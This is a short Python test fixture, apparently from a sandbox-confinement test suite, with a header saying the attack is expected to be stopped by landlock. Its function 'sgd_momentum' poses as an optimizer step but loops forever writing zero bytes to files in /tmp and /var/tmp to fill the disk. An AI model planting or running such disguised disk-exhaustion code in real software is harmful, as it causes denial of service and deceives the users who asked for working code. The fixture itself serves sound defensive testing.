# /// attack
# file = "optim.py"
# modes = "confined"
# stopped_by = "landlock"
# [expects]
# sgd_momentum = "crashed"
# ///
"""Fills the disk with a file in /tmp, and one in /var/tmp."""


def sgd_momentum(w, dw, config=None):
    for folder in ("/tmp", "/var/tmp"):
        with open(f"{folder}/descent-left-behind-fill", "wb") as file:
            while True:
                file.write(bytes(1 << 20))
